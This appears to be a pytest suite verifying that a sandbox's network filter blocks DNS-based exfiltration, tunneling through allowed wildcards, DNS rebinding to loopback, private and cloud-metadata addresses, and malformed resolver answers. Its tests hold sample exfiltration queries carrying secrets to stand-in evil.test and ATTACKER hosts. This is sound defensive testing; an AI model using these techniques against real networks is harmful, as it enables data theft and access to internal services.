# SPDX-License-Identifier: Apache-2.0
"""DNS is no way out, and no way around: E02, E03, C35."""

import os
import socket
import struct
import time

import pytest

import names
from client import eventually
from lab import ALLOWED, ATTACKER, HOST, RESOLVER
from names import Answer
from networked import ALLOWED_ONLY, CA, DNS, allowing, b64, received

HOSTILE = allowing({"host": "*.hostile.test", "ports": [80, 443]})


def dns(name, kind="A", server=DNS, **fields):
    return {"op": "dns", "to": [server, 53], "query_b64": b64(names.query(name, kind)), **fields}


def https(name, address=ALLOWED, **fields):
    return {"op": "tls", "to": [address, 443], "sni": name, "verify": CA,
            "request": f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n", **fields}


def http(name, address=ALLOWED, **fields):
    return {"op": "tcp", "to": [address, 80], "send": f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n", **fields}


def wait_until_asked(lab, name, mark):
    eventually(lambda: name in {q.name for q in lab.names.asked(mark)}, 30, f"the resolver is asked for {name}")


def test_allowed_names_resolve_and_no_others(networked, lab):
    """The control: the resolver is asked for what is allowed."""
    box = networked(ALLOWED_ONLY)
    with lab.watch() as seen:
        good, upper, subdomain, parent = box.attempt(*[{"op": "resolve", "name": n}
                                                       for n in ("allowed.test", "ALLOWED.test.", "www.allowed.test", "test")])
    assert good["addresses"] == upper["addresses"] == [ALLOWED]
    assert subdomain["error"] and parent["error"], (subdomain, parent)
    seen.assert_only(names={"allowed.test"})


def test_e02_c35_names_outside_the_list_reach_nobody(networked, lab):
    box = networked(ALLOWED_ONLY)
    secret = "s3cr3t" + os.urandom(5).hex()
    evil = lambda n: f"{secret}.{n}.evil.test"
    servers = [DNS, "8.8.8.8", RESOLVER, ATTACKER, "1.1.1.1", HOST, box.gateway]
    long_name = ".".join(["a" * 60, "b" * 60, "c" * 60, secret, "d" * 40, "evil.test"])
    tasks = [{"op": "resolve", "name": evil(0)}]
    udp = [dns(evil(1), server=s) for s in servers] + [dns(evil(2), kind) for kind in ("TXT", "NULL", "MX", "ANY", "CNAME", "SRV", "HTTPS", "NS")]
    udp += [dns(long_name), dns(f"{secret}.test"), dns(secret), dns("x" * 63 + "." + secret + ".allowed.test.evil.test")]
    tcp = [dns(evil(3), server=s, over_tcp=True) for s in servers]
    other = [{"op": "tls", "to": [s, 853], "sni": "dns.google", "request_b64": b64(b"\0\x20" + names.query(evil(4))), "timeout": 1.5} for s in servers]
    doh = f"POST /dns-query?{secret} HTTP/1.1\r\nHost: dns.google\r\nContent-Length: 0\r\n\r\n"
    other += [{"op": "tls", "to": [s, 443], "sni": "dns.google", "request": doh, "timeout": 1.5} for s in servers]
    other += [{"op": "tls", "to": [s, 443], "request": doh, "timeout": 1.5} for s in servers]
    other += [{"op": "udp", "to": [group, port], "send_b64": b64(names.query(evil(5))), "timeout": 0.5}
              for group, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355), (ATTACKER, 5353), (ATTACKER, 853))]
    with lab.watch() as seen:
        results = box.attempt(*tasks, *udp, *tcp, *other)
        box.logged(kind="dns", host=lambda h: h and h.startswith(secret + ".2"))
    seen.assert_silent()
    seen.assert_secret_stayed(secret.encode())
    assert results[0]["error"].startswith("EAI") and results[0]["ms"] < 20_000, results[0]
    for task, result in zip(udp, results[1:]):
        assert result.get("rcode") in (names.REFUSED, names.NXDOMAIN), (task["to"], result)
    for task, result in zip(tcp, results[1 + len(udp):]):
        assert result.get("rcode") in (names.REFUSED, names.NXDOMAIN) or result["error"] in ("ECONNRESET", "ECONNREFUSED") or result.get("bytes") == 0, result
    # All at once on a busy machine some wait for each other; what is refused only after a while is so each time.
    for group in (udp, tcp):
        for task in {tuple(task["to"]): task for task in group}.values():
            assert box.quickest(**task)["ms"] < 700, task["to"]
    for task, result in zip(other, results[1 + len(udp) + len(tcp):]):
        assert not result["ok"] and not result.get("handshake"), (task, result)
    assert {e["verdict"] for e in box.log()} == {"denied"}


def test_c35_one_entry_of_the_log_for_each_try(networked, lab):
    box = networked(ALLOWED_ONLY)
    tries = [f"t{n}.evil.test" for n in range(20)]
    with lab.watch() as seen:
        results = box.attempt(*[dns(name, "TXT" if n % 2 else "A", over_tcp=n % 4 == 3) for n, name in enumerate(tries)])
        eventually(lambda: set(tries) <= {e["host"] for e in box.log() if e["kind"] == "dns"}, 30, "every try is in the log")
    seen.assert_silent()
    assert all(r.get("rcode") == names.REFUSED for r in results), results
    entries = [e for e in box.log() if e["kind"] == "dns"]
    assert sorted(e["host"] for e in entries) == sorted(tries), entries
    for entry in entries:
        assert entry["verdict"] == "denied" and entry["rule"] and entry["how_to_allow"] and entry["reason"], entry
        assert entry["query_type"] in ("A", "TXT"), entry


def test_c35_a_name_in_a_proxy_request_is_not_resolved(networked, lab):
    box = networked(ALLOWED_ONLY)
    secret = "s3cr3t" + os.urandom(5).hex()
    heads = [f"CONNECT {secret}.evil.test:443 HTTP/1.1\r\nHost: {secret}.evil.test:443\r\n\r\n",
             f"GET http://{secret}.evil.test/ HTTP/1.1\r\nHost: {secret}.evil.test\r\n\r\n", f"GET / HTTP/1.1\r\nHost: {secret}.evil.test\r\n\r\n"]
    tasks = [{"op": "tcp", "to": [a, p], "send": head, "timeout": 2} for head in heads for a in (ALLOWED, ATTACKER, box.gateway, DNS)
             for p in (80, 3128, 8080)]
    tasks += [{"op": "tls", "to": [a, 443], "sni": f"{secret}.evil.test", "request": "x"} for a in (ALLOWED, ATTACKER)]
    with lab.watch() as seen:
        results = box.attempt(*tasks)
    seen.assert_silent()
    assert all('"site"' not in r.get("received", "") for r in results)
    assert box.logged(host=f"{secret}.evil.test", verdict="denied")


def test_c35_an_allowed_suffix_is_no_tunnel(networked, lab):
    """Data in the labels of an allowed wildcard: long names do not go, and the rate is bounded."""
    box = networked(allowing({"host": "*.allowed.test"}))
    burst = 400
    chunks = [f"{n:04}" + os.urandom(12).hex() for n in range(burst)]
    long_names = [".".join([os.urandom(30).hex()] * 3 + ["allowed.test"]), ".".join([os.urandom(3).hex()] * 20 + ["allowed.test"])]
    with lab.watch() as seen:
        good = box.one(op="resolve", name="www.allowed.test")
        results = box.attempt(*[dns(name, kind) for name in long_names for kind in ("A", "TXT")])
        others = box.attempt(*[dns("www.allowed.test", kind) for kind in ("TXT", "NULL", "MX", "ANY")])
        begin = time.monotonic()
        box.attempt(*[dns(chunk + ".allowed.test", timeout=0.5) for chunk in chunks])
        minutes = (time.monotonic() - begin) / 60
    assert good.get("addresses") == [ALLOWED], (good, box.log(), seen.queries)
    assert all(r.get("rcode") in (names.REFUSED, names.NXDOMAIN) for r in results), results
    assert not set(long_names) & seen.asked_names
    assert all(r.get("rcode") != names.NOERROR or r["answer_count"] == 0 for r in others), others
    assert {q.kind for q in seen.queries} <= {1, 28}, "only addresses are asked for"
    asked = {q.name for q in seen.queries} & {c + ".allowed.test" for c in chunks}
    assert len(asked) <= 60 * (2 + int(minutes)), f"{len(asked)} of {burst} made-up names went out within {minutes:.1f} minutes"
    assert box.logged(kind="dns", verdict="denied", rule=lambda r: r and r.startswith("limit:"))


SPECIAL = {"A": ["127.0.0.1", "10.9.0.9", "192.168.7.7", "172.16.5.5", "169.254.169.254", "0.0.0.0", "100.64.0.1", "224.0.0.1", "255.255.255.255",
                 "198.18.0.1", HOST, DNS],
           "AAAA": ["::1", "::", "::ffff:10.0.0.1", "::ffff:127.0.0.1", "64:ff9b::a00:1", "fd00:ec2::254", "fe80::1", "2002:a00:1::1", "::7f00:1"]}


def test_e03_special_addresses_are_refused_after_resolution(networked, lab):
    """By TLS, by HTTP, and already in the answer to the sandbox."""
    hosts = {}
    for kind, addresses in SPECIAL.items():
        for number, address in enumerate(addresses):
            hosts[f"{kind.lower()}{number}.hostile.test"] = address
            lab.names.script(f"{kind.lower()}{number}.hostile.test", Answer([(kind, address)]))
    box = networked(HOSTILE)
    with lab.watch() as seen:
        answers = box.attempt(*[dns(name, kind) for name in hosts for kind in ("A", "AAAA")])
        results = box.attempt(*[make(name, ATTACKER) for name in hosts for make in (https, http)])
    seen.assert_only(names=hosts)
    assert all(r.get("answer_count") in (0, None) for r in answers), answers
    for result in results:
        assert not result.get("handshake") and '"site"' not in result.get("received", ""), result
    for rule in ("floor:loopback", "floor:private", "floor:metadata", "floor:host"):
        assert box.logged(verdict="denied", rule=rule)


@pytest.mark.parametrize("other", ["127.0.0.1", "10.9.0.9", "169.254.169.254", HOST])
def test_e03_alternating_answers_never_lead_to_the_unchecked_one(networked, lab, other):
    """Rebinding: one answer for the check, another for the connection, in either order and without a lifetime."""
    box = networked(HOSTILE)
    name = f"{box.id}-turns.hostile.test"  # asked for the first time, so that the first answer is the allowed one
    lab.names.cycle(name, [("A", ALLOWED)], [("A", other)])
    tasks = [task for _ in range(10) for task in (https(name), http(name), http(name, other), dns(name))]
    with lab.watch() as seen:
        results = box.attempt(*tasks)
    seen.assert_only({(ALLOWED, 443), (ALLOWED, 80)}, {name})
    assert any('"site": "allowed"' in r.get("received", "") for r in results), results
    assert not any(socket.inet_aton(other) in received(r) for t, r in zip(tasks, results) if t["op"] == "dns")


def test_e03_mixed_answers_and_aliases(networked, lab):
    lab.names.script("mixed.hostile.test", Answer([("A", "127.0.0.1"), ("A", ALLOWED), ("A", "10.9.0.9"), ("AAAA", "::1")]))
    lab.names.script("alias.hostile.test", Answer([("CNAME", "internal.test"), ("A", "10.9.0.9", "internal.test")]))
    lab.names.script("bare-alias.hostile.test", Answer([("CNAME", "internal.test")]))
    lab.names.script("good-alias.hostile.test", Answer([("CNAME", "other.allowed.test"), ("A", ALLOWED, "other.allowed.test")]))
    lab.names.script("stray.hostile.test", Answer([("A", ALLOWED, "unasked.test")]))
    box = networked(HOSTILE)
    with lab.watch() as seen:
        mixed, alias, bare, good, stray = box.attempt(*[https(f"{n}.hostile.test", ATTACKER) for n in
                                                        ("mixed", "alias", "bare-alias", "good-alias", "stray")])
        answer = box.one(**dns("mixed.hostile.test"))
    assert '"site": "allowed"' in mixed.get("received", ""), mixed
    assert '"site": "allowed"' in good.get("received", ""), good
    for refused in (alias, bare, stray):
        assert not refused.get("handshake"), refused
    assert socket.inet_aton("127.0.0.1") not in received(answer) and socket.inet_aton("10.9.0.9") not in received(answer)
    seen.assert_attacker_saw_nothing()
    assert seen.destinations == {(ALLOWED, 443)}


def test_e03_answers_that_are_broken_slow_or_huge_harm_nobody(networked, lab):
    loop = lambda request: request[:2] + struct.pack("!HHHHH", 0x8580, 1, 1, 0, 0) + names.question(request)[2] + b"\xc0\x1c\xc0\x1c" + bytes(20)
    wrong_id = lambda request: bytes([request[0] ^ 0xFF, request[1]]) + names.response(request, [names.record("A", ATTACKER)])[2:]
    other_question = lambda request: request[:2] + names.response(names.query("else.test"), [names.record("A", ATTACKER)])[2:]
    lies = lambda request: names.response(request, [names.record("A", ALLOWED)])[:6] + b"\xff\xff" + names.response(request, [names.record("A", ALLOWED)])[8:]
    bad = {"loop": Answer(raw=loop), "wrong-id": Answer(raw=wrong_id), "other-question": Answer(raw=other_question), "count": Answer(raw=lies),
           "empty": Answer(raw=lambda _: b""), "garbage": Answer(raw=lambda _: os.urandom(400)), "servfail": Answer(rcode=names.SERVFAIL),
           "cname-loop": Answer([("CNAME", "cname-loop.hostile.test")]), "silent": Answer(silent=True), "nothing": Answer()}
    good = {"huge": Answer([("A", ALLOWED)] * 100, truncated=True), "slow": Answer([("A", ALLOWED)], delay=0.7), "zero-ttl": Answer([("A", ALLOWED)])}
    for name, answer in {**bad, **good}.items():
        lab.names.script(f"{name}.hostile.test", answer)
    box, neighbour = networked(HOSTILE), networked(ALLOWED_ONLY)
    with lab.watch() as seen:
        waiting = box.begin(*[https(f"{n}.hostile.test", ATTACKER, timeout=60) for n in {**bad, **good}])
        wait_until_asked(lab, "silent.hostile.test", seen.marks["names"])
        beside = neighbour.one(**https("allowed.test"))
        results = dict(zip({**bad, **good}, waiting()))
    assert beside["ended"] < results["silent"]["ended"] and '"site": "allowed"' in beside["received"], beside
    for name in bad:
        assert not results[name].get("handshake"), (name, results[name])
        assert results[name]["error"] != "timeout", (name, results[name])
    for name in good:
        assert '"site": "allowed"' in results[name].get("received", ""), (name, results[name])
    seen.assert_attacker_saw_nothing()
    assert seen.destinations == {(ALLOWED, 443)}


def test_a_host_with_an_unreachable_ipv6_address_is_still_reached(networked, lab):
    box = networked(allowing({"host": "*.allowed.test"}))
    results = box.attempt(https("half.allowed.test"), https("dual.allowed.test"))
    assert all('"site": "allowed"' in r.get("received", "") for r in results), results


def test_an_allowed_name_that_is_no_host_fails_as_a_name(networked, lab):
    """"No such name" is not "denied"."""
    box = networked(allowing({"host": "*.allowed.test"}, {"host": "nothing.test"}))
    result, connected = box.attempt(dns("nothing.test"), https("nothing.test"))
    assert result["rcode"] == names.NXDOMAIN, result
    assert not connected.get("handshake") and connected["error"] != "alert 49", connected
    entry = box.logged(host="nothing.test", kind="connection")[-1]
    assert entry["verdict"] == "failed", entry


def test_resolver_sees_no_more_than_it_must(networked, lab):
    """No search domains, no reverse lookups, no question twice within a lifetime."""
    name = f"x{os.urandom(4).hex()}.hostile.test"  # one that nobody has asked for
    lab.names.script(name, Answer([("A", ALLOWED)], ttl=300))
    box = networked(HOSTILE)
    with lab.watch() as first:
        answer = box.one(**dns(name))
    with lab.watch() as seen:
        for _ in range(5):
            box.one(**dns(name))
        box.attempt(*[http(name) for _ in range(5)])
    assert answer["rcode"] == names.NOERROR, answer
    # A question whose answer is late is asked again after 2 s; one that was answered is not.
    assert 1 <= [q.kind for q in first.queries].count(1) <= 1 + answer["ms"] // 2000, (first.queries, answer)
    assert 1 not in [q.kind for q in seen.queries], seen.queries
    first.assert_only(names={name})
    seen.assert_only({(ALLOWED, 80)}, {name})
